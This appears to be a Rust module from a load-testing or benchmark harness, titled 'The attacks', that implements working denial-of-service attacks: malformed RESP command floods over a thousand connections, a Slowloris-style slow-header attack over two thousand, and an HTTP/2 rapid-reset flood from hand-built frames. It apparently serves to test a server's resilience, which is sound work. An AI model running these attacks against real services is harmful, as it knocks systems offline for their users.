//! The attacks.

use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::{JoinHandle, spawn_local};
use tokio::time::{sleep, timeout_at};

/// A thousand connections that announce more than they send, exceed the maximum sizes, or read no replies.
pub(super) async fn bombs(resp: SocketAddr, length: Duration) -> String {
    let until = Instant::now() + length;
    let argument = [b"$8192\r\n".as_slice(), &[b'a'; 8192], b"\r\n"].concat();
    let half = [b"*64\r\n".as_slice(), &argument.repeat(63)].concat();
    let kinds: [(Vec<u8>, bool); 8] = [
        (b"*1000000000\r\n".to_vec(), false),
        (b"*1\r\n$1000000000\r\n".to_vec(), false),
        (b"*1\r\n$-5\r\n".to_vec(), false),
        (b"*1\r\n".repeat(4_000), false),
        (vec![b'a'; 1 << 20], false),
        // Half of the largest possible command, then silence.
        (half, false),
        // Replies that are never read.
        (b"INFO\r\n".repeat(2_000), true),
        (argument_echo(), true),
    ];
    let tasks = (0..1_000).map(|number| {
        let (bytes, again) = kinds.get(number % kinds.len()).cloned().unwrap_or_default();
        spawn_local(bomb(resp, bytes, again, until))
    });
    let thrown: u64 = all(tasks.collect()).await;
    format!("{thrown} bombs")
}

fn argument_echo() -> Vec<u8> {
    [b"*2\r\n$4\r\nECHO\r\n$8192\r\n".as_slice(), &[b'e'; 8192], b"\r\n"]
        .concat()
        .repeat(4)
}

/// Sends the same bytes until the connection is closed, reconnects, and returns how often.
async fn bomb(resp: SocketAddr, bytes: Vec<u8>, again: bool, until: Instant) -> u64 {
    let mut thrown = 0;
    while Instant::now() < until {
        let Ok(mut stream) = TcpStream::connect(resp).await else {
            continue;
        };
        thrown += 1;
        let attack = async {
            while stream.write_all(&bytes).await.is_ok() && again {}
            // The reply does not matter, only the close.
            if !again {
                let mut received = [0; 512];
                while stream.read(&mut received).await.is_ok_and(|length| length > 0) {}
            }
        };
        let _ = timeout_at(until.into(), attack).await;
    }
    thrown
}

/// Two thousand concurrent connections that send a header byte now and then, and reconnect when they are closed.
pub(super) async fn slow(http: SocketAddr, length: Duration) -> String {
    let until = Instant::now() + length;
    let tasks = (0..2_000).map(|_| {
        spawn_local(async move {
            let mut cut = 0;
            while Instant::now() < until {
                cut += u64::from(drip(http, until).await);
            }
            cut
        })
    });
    let cut: u64 = all(tasks.collect()).await;
    format!("2000 at a time, {cut} closed")
}

/// Sends a header byte by byte. True if the server closed the connection before the end.
async fn drip(http: SocketAddr, until: Instant) -> bool {
    let Ok(mut stream) = TcpStream::connect(http).await else {
        return false;
    };
    let partial_head = b"POST /v1/check HTTP/1.1\r\nhost: bench\r\nx-slow: ";
    let mut sent = stream.write_all(partial_head).await;
    while sent.is_ok() && Instant::now() < until {
        sleep(Duration::from_millis(500)).await;
        sent = stream.write_all(b"a").await;
    }
    sent.is_err()
}

/// One connection that opens streams and resets them at once, as fast as it can; when it is closed, the next.
pub(super) async fn resets(http: SocketAddr, length: Duration) -> String {
    let until = Instant::now() + length;
    let (mut streams, mut connections) = (0_u64, 0_u64);
    while Instant::now() < until {
        let Ok(mut stream) = TcpStream::connect(http).await else {
            continue;
        };
        connections += 1;
        let (mut reading, mut writing) = stream.split();
        let attack = async {
            let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            preface.extend(frame(4, 0, 0, &[]));
            if writing.write_all(&preface).await.is_err() {
                return;
            }
            for first in (1_u32..).step_by(2 * STREAMS_PER_ROUND as usize) {
                let mut bytes = Vec::new();
                for number in 0..STREAMS_PER_ROUND {
                    let id = first + 2 * number;
                    // GET / of http://x, as indices of the static table and one literal.
                    bytes.extend(frame(1, 0b101, id, &[0x82, 0x86, 0x84, 0x41, 1, b'x']));
                    bytes.extend(frame(3, 0, id, &8_u32.to_be_bytes()));
                }
                if writing.write_all(&bytes).await.is_err() {
                    return;
                }
                streams += u64::from(STREAMS_PER_ROUND);
                tokio::task::yield_now().await;
            }
        };
        let heard = async {
            let mut said = [0; 4096];
            while reading.read(&mut said).await.is_ok_and(|length| length > 0) {}
        };
        let both = async {
            tokio::select! {
                () = attack => {}
                () = heard => {}
            }
        };
        let _ = timeout_at(until.into(), both).await;
    }
    format!("{streams} streams on {connections} connections, one at a time")
}

const STREAMS_PER_ROUND: u32 = 32;

/// An HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes: Vec<u8> = length.into_iter().skip(1).collect();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

async fn all(tasks: Vec<JoinHandle<u64>>) -> u64 {
    let mut sum = 0;
    for task in tasks {
        sum += task.await.unwrap_or(0);
    }
    sum
}
